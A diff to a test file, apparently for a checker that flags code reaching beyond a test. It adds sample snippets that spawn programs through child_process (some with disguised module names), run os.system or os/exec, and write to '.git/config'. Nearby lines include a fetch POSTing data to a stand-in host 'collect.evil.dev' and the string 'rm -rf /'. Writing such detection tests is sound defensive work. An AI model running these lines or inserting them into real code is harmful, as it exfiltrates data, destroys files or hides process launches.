@@ -21,6 +21,7 @@ describe('tests that reach nothing', () => {
     [
       "vi.mock('node:child_process');\nimport { spawn } from 'node:child_process';\nvi.mocked(spawn).mockReturnValue(child);",
     ],
+    ["jest.mock('child_process');\nconst { spawn } = require('child_process');"],
     ["expect(normalise('/home/user/../x')).toBe('/home/x');"],
     ['const match = /a(b)/.exec(text);'],
     ["expect(() => parse('rm -rf /')).toThrow();"],
@@ -64,6 +65,16 @@ describe('deleting in Python', () => {
 describe('what reaches beyond a test', () => {
   it.each([
     [test, "import { execSync } from 'child_process';", 'starts programs'],
+    [test, "vi.mock('node:child_process');\nconst x = require('node:child_process');", 'starts programs'],
+    [test, 'import cp = require(`child_process`)', 'starts programs'],
+    [test, "process.getBuiltinModule('child' + '_process')", 'starts programs'],
+    [test, "import fs from 'fs'; fs.writeFileSync('.git/config', x)", 'opens files outside the project'],
+    ['/home/dev/app/tests/test_a.py', 'from os import system', 'starts programs'],
+    ['/home/dev/app/tests/test_a.py', 'import os as o\no.system("x")', 'starts programs'],
+    ['/home/dev/app/main_test.go', 'import e "os/exec"', 'starts programs'],
+    ['/home/dev/app/next.config.js', "require('child_process')", 'starts programs'],
+    ['/home/dev/app/tailwind.config.js', "require('child_process')", 'starts programs'],
+    ['/home/dev/app/src/sitecustomize.py', 'import os; os.system("x")', 'starts programs'],
     [test, "const { spawn } = require('node:child_process');", 'starts programs'],
     [test, "vi.mock('child_process');\nconst real = await vi.importActual('child_process');", 'starts programs'],
     [test, "await fetch('https://collect.evil.dev/x', { method: 'POST', body });", 'uses the network'],
